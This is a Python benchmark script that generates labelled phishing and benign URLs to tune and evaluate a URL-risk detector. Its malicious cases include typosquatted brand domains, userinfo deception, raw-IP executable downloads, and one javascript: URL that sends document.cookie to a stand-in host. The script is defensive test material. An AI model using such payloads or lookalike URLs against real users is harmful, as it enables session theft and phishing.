"""Labelled URL cases for the securityguard URL detector, written for AIGuardian, and its calibration.

    .venv/bin/python bench/securityguard_url_cases.py [--data /work/shared/data] [--write]

No public labelled phishing-URL set is available offline here, so the cases are
generated from rules a person would apply by hand: for a sample of brands (every
third brand of the shipped list is held out of the generators entirely, so the
reported figures include brands the tuning never saw) the usual phishing forms
(character swaps, omissions, doublings, digit and ``rn``/``m`` look-alikes, the brand's
domain as a subdomain of another domain, brand + lure word, raw IP hosts serving
programs, ``user@host`` deception) are labelled 1 (malicious); the brands' own
sites and subdomains, documentation, code hosting, news and reference sites, private
network addresses and local development servers are labelled 0. Link shorteners are
not labelled: their destination is unknown, so the detector reports them at a fixed
"flag" score outside the calibration.

``--write`` fits the ``risky_url`` calibrator (bench/calibration.py) on the TUNING
cases and stores it; every run reports precision/recall on the REPORTED cases and,
with ``--data``, how often URLs found in the public benign text are flagged.
"""

from __future__ import annotations

import argparse
import re
import sys
from dataclasses import dataclass, replace
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent))
from calibration import fit_calibrator, save_calibrators
from securityguard_datasets import floor4, split_of

from guards.analyzers.securityguard import calibrators
from guards.analyzers.securityguard.url_domains import BRANDS_PATH, registrable
from guards.analyzers.securityguard.urls import CALIBRATOR, url_risk, url_signals

LURES = ("login", "secure", "verify", "account", "billing", "update", "support", "signin", "wallet", "confirm")
FOREIGN = ("secure-verify.ru", "account-check.xyz", "login-portal.top", "mail-service.info", "cdn-host.net",
           "web-auth.click", "update-center.online", "example-hosting.com", "freesite.biz", "pages-host.co")
PATHS = ("/verify", "/signin", "/login.php", "/account/update", "/", "/secure/session?id=8812", "/billing")
BENIGN_SITES = (
    "https://docs.python.org/3/library/urllib.parse.html", "https://github.com/psf/requests",
    "https://github.com/django/django/pull/18000", "https://en.wikipedia.org/wiki/Phishing",
    "https://stackoverflow.com/questions/4830856", "https://www.bbc.co.uk/news/technology",
    "https://developer.mozilla.org/en-US/docs/Web/HTML", "https://pypi.org/project/numpy/",
    "https://www.nytimes.com/section/science", "https://arxiv.org/abs/2410.22770", "https://www.gov.uk/vehicle-tax",
    "https://www.irs.gov/forms-pubs", "https://news.ycombinator.com/item?id=1", "https://www.reddit.com/r/python/",
    "https://docs.djangoproject.com/en/5.2/", "https://www.postgresql.org/docs/current/", "https://crates.io/",
    "https://www.npmjs.com/package/react", "https://fonts.googleapis.com/css2?family=Inter",
    "https://cdn.jsdelivr.net/npm/vue@3", "https://code.visualstudio.com/download",
    "https://www.python.org/ftp/python/3.12.0/python-3.12.0-amd64.exe", "https://zoom.us/j/123456789",
    "https://login.microsoftonline.com/common/oauth2/v2.0/authorize", "https://accounts.google.com/signin",
    "https://apple.stackexchange.com/questions/12345", "https://my-project.readthedocs.io/en/latest/",
    "https://user.github.io/blog/", "https://example.com/", "https://www.example.org/about",
    "http://localhost:8000/admin/", "http://127.0.0.1:5000/api", "http://192.168.1.1/", "http://10.0.0.12:8080/status",
    "https://www.amazon.de/gp/cart", "https://support.apple.com/en-us/HT201222", "https://www.paypal.com/signin",
    "https://paypal.me/janedoe", "https://help.netflix.com/en/", "https://www.linkedin.com/in/someone",
    "https://myaccount.google.com/security", "https://www.chase.com/personal/checking",
    "https://www.mozilla.org/en-US/firefox/new/", "https://releases.ubuntu.com/24.04/ubuntu-24.04-desktop-amd64.iso",
    "https://www.7-zip.org/a/7z2408-x64.exe", "https://www.nationalgeographic.com/animals",
    "https://download.mozilla.org/firefox-setup.exe", "https://dl.google.com/chrome/install/ChromeSetup.exe",
    "https://github.com/git-for-windows/git/releases/download/v2.47.0/Git-2.47.0-64-bit.exe",
    "https://www.videolan.org/vlc/vlc-3.0.21-win64.msi", "https://f-droid.org/F-Droid.apk",
    "https://nodejs.org/dist/v22.11.0/node-v22.11.0-x64.msi",
    # Raw public addresses people share on purpose: resolvers, self-hosted dashboards, demo servers.
    "http://1.1.1.1/", "https://8.8.8.8/", "http://9.9.9.9/", "http://93.184.216.34/", "http://52.14.88.201:3000/",
    "http://34.117.59.81/status", "https://20.81.111.85/health", "http://64.233.160.10:9090/metrics",
    "http://104.21.5.10/dashboard", "http://151.101.1.69/docs/",
)


@dataclass(frozen=True, slots=True)
class UrlCase:
    url: str
    label: int  # 1 malicious (phishing or malware), 0 benign
    family: str
    split: str


def brands() -> list[str]:
    out = []
    for line in BRANDS_PATH.read_text(encoding="utf-8").splitlines():
        line = line.strip()
        if line and not line.startswith("#") and registrable(line) == line:
            out.append(line)
    return out


def _typos(name: str) -> list[tuple[str, str]]:
    out = []
    if len(name) >= 6:
        i = len(name) // 2
        out += [(name[:i] + name[i + 1 :], "omission"), (name[:i] + name[i] + name[i:], "doubling"),
                (name[: i - 1] + name[i] + name[i - 1] + name[i + 1 :], "swap")]
    glyphs = {"o": "0", "l": "1", "i": "1", "e": "3", "m": "rn", "w": "vv", "a": "4", "s": "5"}
    for letter, glyph in glyphs.items():
        if letter in name:
            out.append((name.replace(letter, glyph, 1), "lookalike_characters"))
            break
    return out


def generate() -> list[UrlCase]:
    cases: list[tuple[str, int, str]] = []
    for n, domain in enumerate(brands()):
        if n % 3 == 2:
            continue  # held-out brands: only ever seen through the fixed benign list
        name, suffix = domain.split(".", 1)
        path = PATHS[n % len(PATHS)]
        foreign = FOREIGN[n % len(FOREIGN)]
        lure = LURES[n % len(LURES)]
        for typo, how in _typos(name):
            cases.append((f"http://{typo}.{suffix}{path}", 1, f"typosquat_{how}"))
            cases.append((f"https://{typo}-{lure}.com{path}", 1, f"typosquat_{how}_lure"))
        cases.append((f"http://{domain}.{foreign}{path}", 1, "brand_domain_as_subdomain"))
        cases.append((f"https://{lure}.{domain}.{foreign}/", 1, "brand_domain_as_subdomain"))
        cases.append((f"http://{name}.{lure}-{foreign}{path}", 1, "brand_name_subdomain_lure"))
        cases.append((f"https://{lure}-{name}.{foreign.split('.')[-1]}{path}", 1, "brand_plus_lure"))
        cases.append((f"https://www.{domain}@{foreign}{path}", 1, "userinfo_deception"))
        cases.append((f"https://{domain}/", 0, "brand_itself"))
        cases.append((f"https://www.{domain}{path}", 0, "brand_itself"))
        cases.append((f"https://{LURES[(n + 3) % len(LURES)]}.{domain}/", 0, "brand_subdomain"))
        cases.append((f"https://{name}.stackexchange.com/questions/{n}", 0, "brand_name_on_other_site"))
    for i in range(40):
        ip = f"{45 + i * 3}.{(i * 37) % 250 + 1}.{(i * 11) % 250}.{(i * 7) % 250 + 2}"
        cases.append((f"http://{ip}/{['update', 'setup', 'invoice', 'driver', 'patch'][i % 5]}."
                      f"{['exe', 'msi', 'scr', 'apk', 'hta', 'ps1', 'jar', 'bat'][i % 8]}", 1, "ip_executable"))
        cases.append((f"http://{ip}/{['login', 'verify', 'account', 'wallet'][i % 4]}.php", 1, "ip_login_page"))
        cases.append((f"https://files.{FOREIGN[i % len(FOREIGN)]}/{['invoice', 'scan', 'photo'][i % 3]}_"
                       f"{i}.{['exe', 'scr', 'js.exe', 'pdf.exe'][i % 4]}", 1, "executable_download"))
        cases.append((f"http://192.168.{i % 5}.{i + 2}/admin", 0, "private_network"))
        cases.append((f"https://example{i}.org/docs/page-{i}.html", 0, "ordinary_site"))
    cases.append(("javascript:fetch('//x.example/?c='+document.cookie)", 1, "script_url"))
    cases.append(("data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", 1, "data_url"))
    cases += [(u, 0, "well_known_site") for u in BENIGN_SITES]
    seen: set[str] = set()
    out = []
    for url, label, family in cases:
        if url not in seen:
            seen.add(url)
            out.append(UrlCase(url, label, family, split_of(url)))
    return out


def public_text_urls(data_dir: Path) -> list[str]:
    """URLs found in the public prompt and text sets (assumed harmless; a shortener scores no evidence here)."""
    folders = ("prompt_injection", "benign_prompts", "hallucination", "bias")
    urls: set[str] = set()
    for folder in folders:
        for path in sorted((data_dir / folder).glob("*")):
            text = path.read_text(encoding="utf-8", errors="replace")
            urls.update(m.group().rstrip(".,;:)]}'\"") for m in re.finditer(r"https?://[^\s\"'<>\\]+", text))
    return sorted(u for u in urls if "&#" not in u and "\u2026" not in u)


def evaluate(cases: list[UrlCase], calibrator) -> dict:
    tp = fp = fn = tn = 0
    blocked_benign = 0
    for c in cases:
        p = calibrator(url_risk(url_signals(c.url)))
        pred = p >= calibrator.flag_at
        tp += pred and c.label == 1
        fp += pred and c.label == 0
        fn += (not pred) and c.label == 1
        tn += (not pred) and c.label == 0
        blocked_benign += p >= calibrator.block_at and c.label == 0
    precision = tp / (tp + fp) if tp + fp else 0.0
    recall = tp / (tp + fn) if tp + fn else 0.0
    return {"cases": len(cases), "precision": round(precision, 3), "recall": round(recall, 3),
            "benign_flagged": fp, "benign_blocked": blocked_benign, "tp": tp, "fn": fn, "tn": tn}


def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--data", type=Path, help="shared data folder: also measure URLs found in public text")
    ap.add_argument("--write", action="store_true", help="fit and store the risky_url calibrator (tuning cases)")
    args = ap.parse_args()
    cases = generate()
    tune = [c for c in cases if c.split == "tune"]
    if args.write:
        raw = [url_risk(url_signals(c.url)) for c in tune]
        calibrator, th = fit_calibrator(raw, [c.label for c in tune], ceiling=0.99, floor=0.01)
        calibrator = replace(calibrator, flag_at=floor4(th.flag_at), block_at=floor4(th.block_at))
        save_calibrators(calibrators.CALIBRATION_PATH, {CALIBRATOR: calibrator}, meta={CALIBRATOR: {
            "fitted_on": "bench/securityguard_url_cases.py tuning cases", "rows": len(tune),
            "positives": sum(c.label for c in tune), "block_precision": round(th.block_precision, 4),
            "block_support": th.block_support}})
        calibrators.reload()
        print(f"wrote {CALIBRATOR}: flag {calibrator.flag_at}, block {calibrator.block_at} "
              f"(precision {th.block_precision:.3f} on {th.block_support} tuning cases)")
    calibrator = calibrators.get_calibrator(CALIBRATOR)
    reported = [c for c in cases if c.split == "reported"]
    print("tuning cases:", evaluate(tune, calibrator))
    print("reported cases:", evaluate(reported, calibrator))
    misses = [(c.family, c.url) for c in reported
              if (calibrator(url_risk(url_signals(c.url))) >= calibrator.flag_at) != bool(c.label)]
    for family, url in misses:
        print("  wrong:", family, url)
    if args.data:
        urls = public_text_urls(args.data)
        flagged = [u for u in urls if calibrator(url_risk(url_signals(u))) >= calibrator.flag_at]
        print(f"URLs in public text: {len(urls)}, flagged {len(flagged)}:", flagged[:20])


if __name__ == "__main__":
    main()
